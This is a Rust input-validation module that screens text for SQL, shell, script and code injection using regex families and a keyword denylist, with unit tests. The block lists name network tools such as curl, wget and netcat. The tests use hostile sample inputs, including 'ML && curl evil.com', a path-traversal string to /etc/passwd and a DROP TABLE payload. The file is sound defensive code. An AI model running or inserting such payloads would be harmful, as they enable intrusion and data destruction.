//! Injection pattern families and the literal denylist.
//!
//! Screening is a blocklist: it catches probable injection payloads in free
//! text before that text reaches any interpreted context (search query
//! syntax, prompt, HTML rendering). It is best-effort and can never be
//! proven complete, so it sits in front of, not instead of, output
//! sanitization.

use std::sync::LazyLock;

use regex::RegexSet;

use super::{InjectionClass, ValidationError};

/// SQL control keywords, comments and tautologies.
const SQL_PATTERNS: &[&str] = &[
    r"\b(select|insert|update|delete|drop|create|alter|exec|union|truncate|grant|revoke)\b",
    r"(--|#|/\*|\*/)",
    r"\b(or|and)\s+\d+\s*=\s*\d+",
    r"'\s*(or|and)\s*'",
    r"\bunion\s+select\b",
    r"\binto\s+outfile\b",
    r"\bload_file\b",
];

/// Shell/process control keywords and metacharacters.
const COMMAND_PATTERNS: &[&str] = &[
    r"\b(system|exec|eval|shell_exec|passthru|popen|proc_open|subprocess|os\.system)\b",
    r"(&&|\|\||;|`|\$\(|\$\{)",
    r"\b(rm|del|format|shutdown|reboot|kill|killall|pkill)\b",
    r"(\.\./|\.\.\\|/etc/|/bin/|/usr/|/var/)",
    r"\b(curl|wget|nc|netcat|telnet|ssh|ftp)\b",
    r"\b(chmod|chown|chgrp|sudo|su)\b",
];

/// Markup and script injection.
const SCRIPT_PATTERNS: &[&str] = &[
    r"<script[^>]*>.*?</script>",
    r"(javascript:|vbscript:|data:text/html)",
    r"on\w+\s*=",
    r"(<iframe|<object|<embed|<form|<input)",
    r"(expression\s*\(|@import|url\s*\()",
    r"<svg[^>]*>.*?</svg>",
];

/// Dynamic attribute access, code execution and module/OS access.
const CODE_PATTERNS: &[&str] = &[
    r"\b(__import__|getattr|setattr|delattr|hasattr|callable|compile|eval|exec)\b",
    r"\b(globals|locals|vars|dir|input|raw_input)\b",
    r"\b(open|file|execfile|reload|__builtins__)\b",
    r"\b(os\.|sys\.|subprocess\.|pickle\.|marshal\.)\b",
];

/// Literal substrings rejected after the pattern families have passed.
pub const DENYLIST: &[&str] = &[
    "system",
    "sudo",
    "rm -rf",
    "drop table",
    "exec",
    "eval",
    "shell",
    "cmd",
    "powershell",
    "bash",
    "chmod",
    "chown",
    "__import__",
    "getattr",
    "setattr",
    "delattr",
    "subprocess",
    "os.system",
    "sys.exit",
    "pickle.loads",
    "marshal.loads",
    "input()",
    "raw_input()",
    "file(",
    "open(",
    "execfile",
    "<script",
    "javascript:",
    "vbscript:",
    "onload=",
    "onerror=",
    "document.cookie",
    "window.location",
    "eval(",
    "setTimeout",
    "setInterval",
    "innerHTML",
    "outerHTML",
    "insertAdjacentHTML",
];

/// A compiled family of patterns sharing one injection class.
struct PatternFamily {
    class: InjectionClass,
    set: RegexSet,
}

impl PatternFamily {
    fn compile(class: InjectionClass, patterns: &[&str]) -> Self {
        let set = RegexSet::new(patterns.iter().map(|p| format!("(?i){p}")))
            .expect("injection patterns are valid regular expressions");
        Self { class, set }
    }
}

static FAMILIES: LazyLock<[PatternFamily; 4]> = LazyLock::new(|| {
    [
        PatternFamily::compile(InjectionClass::Sql, SQL_PATTERNS),
        PatternFamily::compile(InjectionClass::Command, COMMAND_PATTERNS),
        PatternFamily::compile(InjectionClass::Script, SCRIPT_PATTERNS),
        PatternFamily::compile(InjectionClass::Code, CODE_PATTERNS),
    ]
});

/// Screen raw text against every pattern family, then the denylist.
///
/// Families are checked in a fixed order (SQL, command, script, code) and
/// the first family with any matching pattern determines the error class.
pub fn check_injection_patterns(text: &str) -> Result<(), ValidationError> {
    let lowered = text.to_lowercase();

    for family in FAMILIES.iter() {
        if family.set.is_match(&lowered) {
            return Err(ValidationError::injection(
                family.class,
                format!(
                    "Potentially malicious {} pattern detected",
                    family.class.label()
                ),
            ));
        }
    }

    if let Some(term) = DENYLIST
        .iter()
        .find(|term| lowered.contains(&term.to_lowercase()))
    {
        return Err(ValidationError::injection(
            InjectionClass::BlockedKeyword,
            format!("Blocked keyword detected: {term}"),
        ));
    }

    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::validation::ValidationCategory;

    fn class_of(text: &str) -> Option<InjectionClass> {
        match check_injection_patterns(text) {
            Ok(()) => None,
            Err(e) => match e.category() {
                ValidationCategory::Injection(class) => Some(class),
                other => panic!("unexpected category {other:?}"),
            },
        }
    }

    #[test]
    fn test_all_patterns_compile() {
        assert_eq!(FAMILIES[0].set.len(), SQL_PATTERNS.len());
        assert_eq!(FAMILIES[1].set.len(), COMMAND_PATTERNS.len());
        assert_eq!(FAMILIES[2].set.len(), SCRIPT_PATTERNS.len());
        assert_eq!(FAMILIES[3].set.len(), CODE_PATTERNS.len());
    }

    #[test]
    fn test_sql_family() {
        assert_eq!(class_of("'; DROP TABLE users; --"), Some(InjectionClass::Sql));
        assert_eq!(class_of("ML UNION SELECT * FROM secrets"), Some(InjectionClass::Sql));
        assert_eq!(class_of("x or 1=1"), Some(InjectionClass::Sql));
        assert_eq!(class_of("topic # comment"), Some(InjectionClass::Sql));
    }

    #[test]
    fn test_command_family() {
        assert_eq!(class_of("ML && curl evil.com"), Some(InjectionClass::Command));
        assert_eq!(class_of("../../../etc/passwd"), Some(InjectionClass::Command));
        assert_eq!(class_of("sudo make me a sandwich"), Some(InjectionClass::Command));
        assert_eq!(class_of("a `b`"), Some(InjectionClass::Command));
    }

    #[test]
    fn test_script_family() {
        assert_eq!(class_of("javascript:alert(1)"), Some(InjectionClass::Script));
        assert_eq!(class_of("<iframe src=x>"), Some(InjectionClass::Script));
        assert_eq!(class_of("<svg><g/></svg>"), Some(InjectionClass::Script));
    }

    #[test]
    fn test_code_family() {
        assert_eq!(class_of("__import__('os')"), Some(InjectionClass::Code));
        assert_eq!(class_of("globals"), Some(InjectionClass::Code));
        assert_eq!(class_of("sys.modules"), Some(InjectionClass::Code));
    }

    #[test]
    fn test_matching_is_case_insensitive() {
        assert_eq!(class_of("JavaScript:void"), Some(InjectionClass::Script));
        assert_eq!(class_of("SeLeCt"), Some(InjectionClass::Sql));
    }

    #[test]
    fn test_denylist_names_term() {
        let err = check_injection_patterns("Ecosystem Dynamics").unwrap_err();
        assert_eq!(
            err.category(),
            ValidationCategory::Injection(InjectionClass::BlockedKeyword)
        );
        assert!(err.to_string().contains("system"));

        let err = check_injection_patterns("bashful robots").unwrap_err();
        assert!(err.to_string().contains("bash"));
    }

    #[test]
    fn test_clean_text_passes() {
        assert!(check_injection_patterns("Machine Learning").is_ok());
        assert!(check_injection_patterns("Quantum Computing (NISQ)").is_ok());
        assert!(check_injection_patterns("2020-2024").is_ok());
    }
}
